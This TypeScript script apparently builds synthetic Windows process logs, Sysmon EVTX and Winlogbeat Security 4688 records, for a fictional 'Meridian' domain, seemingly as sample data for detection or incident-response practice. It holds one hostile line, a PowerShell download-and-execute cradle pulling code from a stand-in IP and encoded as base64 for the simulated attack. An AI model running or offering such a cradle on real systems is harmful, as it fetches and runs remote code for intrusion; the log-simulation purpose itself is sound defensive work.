import { hash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';
import * as z from 'zod';
import { type WrittenEvent, writeEvtx } from '../evtx-writer.ts';

/** Writes samples/ from story.yml: the workstation as a Sysmon log, the server as Winlogbeat ships Security 4688. */

const Start = z.strictObject({
  at: z.string(),
  key: z.string(),
  parent: z.string(),
  user: z.enum(['anna', 'system', 'network', 'admin', 'backup']),
  image: z.string(),
  line: z.string(),
  original: z.string().optional(),
});
type Start = z.output<typeof Start>;
const Story = z.strictObject({ workstation: z.array(Start), server: z.array(Start) });

interface Account {
  readonly name: string;
  readonly domain: string;
  readonly sid: string;
  readonly logonId: string;
  readonly integrity: string;
}

const domainSid = 'S-1-5-21-3702460172-1906413265-2487135109';
const accounts: Readonly<Record<Start['user'], Account>> = {
  system: { name: 'SYSTEM', domain: 'NT AUTHORITY', sid: 'S-1-5-18', logonId: '0x3e7', integrity: 'System' },
  network: {
    name: 'NETWORK SERVICE',
    domain: 'NT AUTHORITY',
    sid: 'S-1-5-20',
    logonId: '0x3e4',
    integrity: 'System',
  },
  anna: {
    name: 'anna.lindqvist',
    domain: 'MERIDIAN',
    sid: `${domainSid}-1142`,
    logonId: '0x5a1c40',
    integrity: 'Medium',
  },
  admin: {
    name: 'adm.okafor',
    domain: 'MERIDIAN',
    sid: `${domainSid}-1107`,
    logonId: '0x3b9e21',
    integrity: 'High',
  },
  backup: {
    name: 'svc.backup',
    domain: 'MERIDIAN',
    sid: `${domainSid}-1120`,
    logonId: '0x81d0f4',
    integrity: 'High',
  },
};

/** Processes that were running before a story begins, by the key that starts call as their parent. */
const running: Readonly<Record<string, string>> = {
  System: 'System',
  services: 'C:\\Windows\\System32\\services.exe',
  schedule: 'C:\\Windows\\System32\\svchost.exe',
  dcom: 'C:\\Windows\\System32\\svchost.exe',
  explorer: 'C:\\Windows\\explorer.exe',
};

const download = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')";
const words: Readonly<Record<string, string>> = {
  sys: 'C:\\Windows\\System32',
  ps: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  office: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
  edge: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
  anna: 'C:\\Users\\anna.lindqvist',
  enc: Buffer.from(download, 'utf16le').toString('base64'),
};

interface Told extends Start {
  readonly pid: number;
  readonly time: string;
  readonly account: Account;
  readonly parentPid: number;
  readonly parentImage: string;
  readonly parentLine: string;
  readonly parentKey: string;
}

function expand(text: string, own = ''): string {
  return text.replace(/\{(\w+)\}/g, (whole, word: string) => (word === 'own' ? own : (words[word] ?? whole)));
}

/** Fills in pids, times and parents; a pid and a GUID follow from the host and the start's key alone. */
function tell(starts: readonly Start[], host: string): Told[] {
  const byKey = new Map<string, Told>();
  return starts.map((start) => {
    const parent = byKey.get(start.parent);
    const parentImage = parent?.image ?? running[start.parent];
    if (parentImage === undefined) throw new Error(`${start.key}: nobody started its parent ${start.parent}`);
    const image = expand(start.image);
    const told: Told = {
      ...start,
      image,
      line: expand(start.line, image),
      pid: pidOf(host, start.key),
      time: `2026-11-18T${start.at}Z`,
      account: accounts[start.user],
      parentPid: start.parent === 'System' ? 4 : pidOf(host, start.parent),
      parentImage,
      parentLine: parent?.line ?? parentImage,
      parentKey: start.parent,
    };
    byKey.set(start.key, told);
    return told;
  });
}

function pidOf(host: string, key: string): number {
  return (Number.parseInt(hash('sha256', `${host}/${key}`, 'hex').slice(0, 4), 16) % 4_000) * 4 + 600;
}

function guidOf(host: string, key: string): string {
  const hex = hash('sha256', `${host}/${key}/guid`, 'hex').toUpperCase();
  return `{A1C40B17-${hex.slice(0, 4)}-691C-${hex.slice(4, 8)}-00000000${hex.slice(8, 10)}00}`;
}

function sysmonEvent(host: string, start: Told): WrittenEvent {
  const name = basename(start.image.replaceAll('\\', '/'));
  const microsoft = start.image.startsWith('C:\\Windows\\') || start.image.includes('Microsoft');
  const hashes = ['sha256', 'md5'].map(
    (kind) => `${kind.toUpperCase()}=${hash(kind, start.image, 'hex').toUpperCase()}`,
  );
  return {
    provider: 'Microsoft-Windows-Sysmon',
    eventId: 1,
    version: 5,
    level: 4,
    task: 1,
    time: start.time,
    computer: host,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    securityUserId: 'S-1-5-18',
    data: [
      ['RuleName', '-'],
      ['UtcTime', start.time.replace('T', ' ').replace('Z', '')],
      ['ProcessGuid', guidOf(host, start.key), 'guid'],
      ['ProcessId', String(start.pid), 'uint32'],
      ['Image', start.image],
      ['FileVersion', microsoft ? '10.0.26100.7019' : '-'],
      ['Description', '-'],
      ['Product', microsoft ? 'Microsoft® Windows® Operating System' : '-'],
      ['Company', microsoft ? 'Microsoft Corporation' : '-'],
      ['OriginalFileName', start.original ?? name],
      ['CommandLine', start.line],
      ['CurrentDirectory', start.user === 'anna' ? 'C:\\Users\\anna.lindqvist\\' : 'C:\\Windows\\system32\\'],
      ['User', `${start.account.domain}\\${start.account.name}`],
      ['LogonGuid', guidOf(host, start.user), 'guid'],
      ['LogonId', start.account.logonId, 'hexInt64'],
      ['TerminalSessionId', start.user === 'anna' ? '1' : '0', 'uint32'],
      [
        'IntegrityLevel',
        start.key === 'elevated' || start.key === 'blind' ? 'High' : start.account.integrity,
      ],
      ['Hashes', hashes.join(',')],
      ['ParentProcessGuid', guidOf(host, start.parentKey), 'guid'],
      ['ParentProcessId', String(start.parentPid), 'uint32'],
      ['ParentImage', start.parentImage],
      ['ParentCommandLine', start.parentLine],
      ['ParentUser', `${start.account.domain}\\${start.account.name}`],
    ],
  };
}

function winlogbeatDocument(host: string, start: Told, recordId: number): object {
  const { account } = start;
  const hex = (pid: number): string => `0x${pid.toString(16)}`;
  return {
    '@timestamp': start.time,
    event: {
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: 'created-process',
      code: '4688',
      module: 'security',
      provider: 'Microsoft-Windows-Security-Auditing',
    },
    host: { name: host, os: { type: 'windows', family: 'windows' } },
    user: { id: account.sid, name: account.name, domain: account.domain },
    process: {
      pid: start.pid,
      name: basename(start.image.replaceAll('\\', '/')),
      executable: start.image,
      command_line: start.line,
      parent: {
        executable: start.parentImage,
        name: basename(start.parentImage.replaceAll('\\', '/')),
        pid: start.parentPid,
      },
    },
    winlog: {
      channel: 'Security',
      computer_name: host,
      event_id: '4688',
      provider_name: 'Microsoft-Windows-Security-Auditing',
      record_id: recordId,
      version: 2,
      event_data: {
        SubjectUserSid: account.sid,
        SubjectUserName: account.name,
        SubjectDomainName: account.domain,
        SubjectLogonId: account.logonId,
        NewProcessId: hex(start.pid),
        NewProcessName: start.image,
        ProcessId: hex(start.parentPid),
        ParentProcessName: start.parentImage,
        CommandLine: start.line,
        TokenElevationType: '%%1936',
        MandatoryLabel: account.integrity === 'System' ? 'S-1-16-16384' : 'S-1-16-12288',
        TargetUserSid: 'S-1-0-0',
        TargetUserName: '-',
        TargetDomainName: '-',
        TargetLogonId: '0x0',
      },
    },
  };
}

const root = fileURLToPath(new URL('../../../', import.meta.url));
const story = Story.parse(parse(readFileSync(new URL('story.yml', import.meta.url), 'utf8')));
const workstation = 'MER-WS0417.meridian.example';
const server = 'MER-FS02.meridian.example';
mkdirSync(join(root, 'samples'), { recursive: true });
writeFileSync(
  join(root, 'samples', 'workstation-sysmon.evtx'),
  writeEvtx(tell(story.workstation, workstation).map((start) => sysmonEvent(workstation, start))),
);
writeFileSync(
  join(root, 'samples', 'server-winlogbeat.ndjson'),
  tell(story.server, server)
    .map((start, index) => `${JSON.stringify(winlogbeatDocument(server, start, 88_201 + index))}\n`)
    .join(''),
);
